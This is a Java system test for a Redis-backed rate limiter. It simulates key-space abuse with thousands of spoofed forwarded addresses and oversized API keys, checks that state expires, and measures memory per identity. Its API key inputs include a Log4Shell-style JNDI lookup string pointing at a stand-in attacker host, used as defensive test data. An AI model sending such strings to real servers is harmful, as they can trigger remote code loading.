package io.ratelimiter.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.ratelimiter.realservers.PostgresDatabase;
import io.ratelimiter.realservers.RealRedis;
import io.ratelimiter.realservers.RealServers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * A client that rotates through thousands of identities (forged addresses behind a trusted proxy, or made-up API
 * keys) to make Redis remember more and more: every window expires, so memory is bounded by the identities active
 * within one window, and each costs a measured, small number of bytes. An API key or header of any length cannot
 * make a long key.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class KeySpaceAbuseTest {

    private static final String SUITE = "key-space";
    private static final int IDENTITIES = 4000;
    private static final Duration WINDOW = Duration.ofSeconds(2);

    private RealRedis redis;
    private PostgresDatabase database;

    @BeforeAll
    void start() {
        // A Redis of its own, so its memory figures are this suite's alone.
        redis = RealServers.newRedis();
        database = RealServers.postgres().createDatabase("key_space");
    }

    @AfterAll
    void stop() {
        redis.close();
    }

    @Test
    void rotatingThroughThousandsOfAddressesLeavesNothingBehindOnceTheirWindowsEnd() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.default-policy.algorithm", "sliding_window",
                "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
            List<String> identities = IntStream.range(0, IDENTITIES).mapToObj(i -> longestIpv6(i)).toList();
            rotate(identities, identity -> Http.get(node.uri(), "/", "X-Forwarded-For", identity));
            measureAndAwaitExpiry(prefix, "full-length IPv6 addresses");
        }
    }

    @Test
    void rotatingThroughThousandsOfLongestApiKeysLeavesNothingBehindOnceTheirWindowsEnd() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.identity.key-by", "api-key",
                "rate-limiter.default-policy.algorithm", "sliding_window",
                "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
            List<String> keys = IntStream.range(0, IDENTITIES).mapToObj(i -> String.format("%08d", i) + "k".repeat(182)).toList();
            rotate(keys, key -> Http.get(node.uri(), "/", "X-API-Key", key));
            measureAndAwaitExpiry(prefix, "190-character API keys");
        }
    }

    @Test
    void noApiKeyOrHeaderLengthMakesALongRedisKey() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.identity.key-by", "api-key"))) {
            for (String key : List.of("k", "k".repeat(190), "k".repeat(191), "k".repeat(5000), "k".repeat(7000),
                    "\ud83d\ude00".repeat(95), "\u00e9".repeat(190), "key with spaces", "${jndi:ldap://evil.example/a}")) {
                Http.Answer answer = RawHttp.exchange(node.uri(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
                        + new String(key.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1) + "\r\nConnection: close\r\n\r\n");
                assertThat(answer.status()).as("key of %d chars: %s", key.length(), answer).isEqualTo(200);
            }
            Http.Answer huge = RawHttp.exchange(node.uri(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
                    + "k".repeat(100_000) + "\r\nConnection: close\r\n\r\n");
            Problems.assertProblem(huge, 413);

            List<String> stored = RedisKeys.on(redis).keys(prefix);
            int longest = stored.stream().mapToInt(key -> key.getBytes(StandardCharsets.UTF_8).length).max().orElseThrow();
            assertThat(longest).as("longest key, bytes").isLessThan(prefix.length() + 200 * 4 + 64);
            assertThat(stored).as("keys too long to be an identity fell back to the address")
                    .anyMatch(key -> key.contains(":state:127.0.0.1 "));
            Figures.report(SUITE, "longest Redis key after API keys of up to 100 KB", longest + " bytes");
        }
    }

    private void rotate(List<String> identities, java.util.function.Function<String, Http.Answer> send) {
        long began = System.nanoTime();
        List<Integer> statuses = identities.parallelStream().map(identity -> send.apply(identity).status()).toList();
        assertThat(statuses).containsOnly(200);
        Figures.report(SUITE, identities.size() + " identities, one request each", Figures.millis(System.nanoTime() - began) + " ms");
    }

    private void measureAndAwaitExpiry(String prefix, String what) {
        RedisKeys keys = RedisKeys.on(redis);
        List<String> all = keys.keys(prefix);
        List<String> state = all.stream().filter(key -> key.contains(":state:")).toList();
        // The first identities' windows may already have ended while the last were still arriving.
        assertThat(state).isNotEmpty().hasSizeLessThanOrEqualTo(IDENTITIES);
        assertThat(keys.immortalState(prefix)).isEmpty();
        long stateBytes = state.stream().limit(100).mapToLong(keys::memoryUsage).sum() / Math.min(100, state.size());
        long indexBytes = all.stream().filter(key -> key.contains(":idx:")).mapToLong(keys::memoryUsage).sum() / state.size();
        Figures.report(SUITE, what + ": Redis memory per identity (its state hash + its share of the three indexes)",
                stateBytes + " + " + indexBytes + " = " + (stateBytes + indexBytes) + " bytes (" + state.size()
                        + " identities live when measured)");

        long began = System.nanoTime();
        await().atMost(WINDOW.multipliedBy(3).plusSeconds(10)).pollInterval(Duration.ofMillis(200)).until(() ->
                keys.keys(prefix).stream().noneMatch(key -> key.contains(":state:") || key.contains(":idx:")));
        List<String> left = keys.keys(prefix);
        assertThat(left).allSatisfy(key -> assertThat(RedisKeys.isConfiguration(key) || key.contains(":stats:"))
                .as("%s is configuration or a per-second counter", key).isTrue());
        assertThat(left.stream().filter(key -> key.contains(":stats:")).count()).as("per-second counters (120 s each)")
                .isLessThanOrEqualTo(121);
        Figures.report(SUITE, what + ": every window and index entry gone after the last request", "within "
                + Figures.millis(System.nanoTime() - began) + " ms of looking (window " + WINDOW.toSeconds() + " s)");
    }

    private static String longestIpv6(int i) {
        ThreadLocalRandom random = ThreadLocalRandom.current();
        return String.format(Locale.ROOT, "2001:db8:%04x:%04x:%04x:%04x:%04x:%04x", 0x1000 + i % 0xefff,
                0x1000 + random.nextInt(0xefff), 0x1000 + random.nextInt(0xefff), 0x1000 + random.nextInt(0xefff),
                0x1000 + random.nextInt(0xefff), 0x1000 + i / 0xefff);
    }
}
